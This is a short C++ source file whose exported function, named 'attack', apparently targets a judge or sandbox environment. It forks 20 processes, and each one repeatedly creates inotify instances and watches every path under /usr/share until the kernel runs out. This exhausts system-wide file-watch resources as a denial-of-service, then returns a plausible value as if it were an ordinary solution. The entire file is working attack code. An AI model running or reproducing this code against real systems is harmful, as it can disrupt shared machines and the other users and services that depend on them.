#include <ftw.h>
#include <sys/inotify.h>
#include <sys/wait.h>
#include <unistd.h>

static int watcher;

static int watch(const char *path, const struct stat *, int, struct FTW *) {
    inotify_add_watch(watcher, path, IN_ALL_EVENTS);
    return 0;
}

extern "C" long attack(long n) {
    for (int i = 0; i < 20; i++)
        if (fork() == 0) {
            while ((watcher = inotify_init()) >= 0)
                nftw("/usr/share", watch, 16, FTW_PHYS | FTW_MOUNT);
            sleep(1);
            _exit(0);
        }
    while (wait(nullptr) > 0) {
    }
    return n - 1;
}
